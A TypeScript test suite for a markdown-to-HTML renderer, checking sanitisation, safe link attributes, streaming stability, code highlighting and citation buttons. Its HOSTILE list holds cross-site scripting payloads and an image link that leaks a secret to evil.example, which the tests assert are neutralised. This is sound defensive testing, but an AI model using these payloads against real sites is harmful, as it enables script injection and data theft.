import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseDocument } from 'htmlparser2';
import { loadHighlighter } from './highlight.ts';
import { hasCode, renderBlocks } from './markdown.ts';
import type { RenderEnv } from './markdown.ts';

const env: RenderEnv = {
  isSource: (n) => n <= 3,
  labelOf: (n) => `Source ${n}: <a "b" & c>.pdf`,
  copyLabel: 'Copy',
  tableLabel: 'Table',
};
const render = (text: string) => renderBlocks(text, env).join('');

/** What may be in the HTML at all. */
const TAGS = new Set(
  'a blockquote br button code div em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'aria-label class data-copy data-source href rel role start style tabindex target title type'.split(' '),
);

/** Every element of the HTML as a parser sees it, with its attributes. */
function listElements(html: string): { name: string; attribs: Record<string, string> }[] {
  const found: { name: string; attribs: Record<string, string> }[] = [];
  const walk = (nodes: ReturnType<typeof parseDocument>['children']) => {
    for (const node of nodes) {
      if ('attribs' in node) found.push({ name: node.name, attribs: node.attribs });
      if ('children' in node) walk(node.children as typeof nodes);
    }
  };
  walk(parseDocument(html).children);
  return found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](file:///etc/passwd)',
  '![x](https://evil.example/pixel?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![" onerror="alert(1)](https://evil.example/" onload="alert(1))',
  '<https://example.com/"onmouseover="alert(1)>',
  '[x](https://example.com/"onmouseover="alert(1) "t\\" onclick=alert(1) x=\\"")',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '    </code><script>alert(1)</script>',
  '|<b>a</b>|<script>|\n|---|:-:|\n|<i onclick=alert(1)>|`</td><script>`|',
  '[1"><script>alert(1)</script>][1] [1]',
  '[ref]\n\n[ref]: javascript:alert(1) "x"',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<a href="https://x" onclick="alert(1)">x</a> <form action=//evil><input name=a>',
  '`<script>alert(1)</script>` **<script>** ~~<style>*{display:none}</style>~~',
  'https://example.com/<script>alert(1)</script>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

describe('renderBlocks', () => {
  for (const text of HOSTILE) {
    it(`lets nothing through of ${JSON.stringify(text)}`, () => {
      for (const { name, attribs } of listElements(render(text))) {
        assert.ok(TAGS.has(name), `element ${name}`);
        for (const [attribute, value] of Object.entries(attribs)) {
          assert.ok(ATTRIBUTES.has(attribute), `attribute ${attribute} of ${name}`);
          if (attribute === 'href') assert.match(value, /^(?:https?|mailto):/i);
          if (attribute === 'style') assert.match(value, /^text-align:(?:left|right|center)$/);
        }
      }
    });
  }

  it('makes pictures links, which fetch nothing until they are followed', () => {
    const html = render('![a chart](https://example.com/c.png)');
    assert.doesNotMatch(html, /<img/);
    assert.match(html, /<a href="https:\/\/example\.com\/c\.png"[^>]*>a chart<\/a>/);
  });

  it('opens links in another tab, which learns nothing of this one', () => {
    assert.match(
      render('[a](https://example.com)'),
      /href="https:\/\/example\.com" target="_blank" rel="noopener noreferrer nofollow"/,
    );
  });

  it('keeps the blocks before the end as they are while a text grows', () => {
    const whole =
      '# Title\n\nA paragraph with **bold** text.\n\n- one\n- two\n\n```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThe end.';
    const final = renderBlocks(whole, env);
    let before: string[] = [];
    for (let length = 1; length <= whole.length; length += 1) {
      const blocks = renderBlocks(whole.slice(0, length), env);
      // A table begins as a paragraph, and a list's last item may take a line in: only the last block may change.
      const settled = before.slice(0, Math.min(before.length, blocks.length) - 1);
      assert.deepEqual(blocks.slice(0, settled.length), settled, JSON.stringify(whole.slice(0, length)));
      before = blocks;
    }
    assert.deepEqual(before, final);
    assert.equal(final.length, 6);
  });

  it('shows no heading for the moment in which a list begins', () => {
    for (const text of ['Some text\n-', 'Some text\n=']) assert.doesNotMatch(render(text), /<h\d/);
  });

  it('shows an unfinished block of code as code', () => {
    assert.match(render('Look:\n\n```python\nprint("<b>'), /<pre tabindex="0"><code>print\(&quot;&lt;b&gt;/);
    assert.ok(hasCode('Look:\n\n```python\nprint('));
    assert.ok(!hasCode('Say ``` in the middle.'));
  });

  it('colours code of a known language, and only escapes that of others', async () => {
    await loadHighlighter();
    assert.match(render('```js\nconst a = "<b>";\n```'), /<span class="hljs-keyword">const<\/span>/);
    assert.match(render('```js\nconst a = "<b>";\n```'), /&lt;b&gt;/);
    assert.doesNotMatch(render('```nothing\nconst a = "<b>";\n```'), /<span class="hljs|<b>/);
  });

  it('makes citations buttons with a name, and leaves those in code and links alone', () => {
    const html = render('It is so [1]. See `x[2]` and [3](https://example.com), or **[2]**.');
    const buttons = listElements(html).filter(({ name }) => name === 'button');
    assert.deepEqual(
      buttons.map(({ attribs }) => [attribs['data-source'], attribs['aria-label']]),
      [
        ['1', 'Source 1: <a "b" & c>.pdf'],
        ['2', 'Source 2: <a "b" & c>.pdf'],
      ],
    );
    assert.match(html, /<code>x\[2\]<\/code>/);
    assert.match(html, /<a href="https:\/\/example\.com"[^>]*>3<\/a>/);
  });

  it('takes a long answer in the time of a frame', () => {
    const text = 'A sentence with **bold** words, `code` and a citation [1].\n\n'.repeat(1_000);
    renderBlocks(text, env);
    const begun = performance.now();
    renderBlocks(text, env);
    // 60,000 characters took 8 ms on a busy machine.
    assert.ok(performance.now() - begun < 500);
  });
});
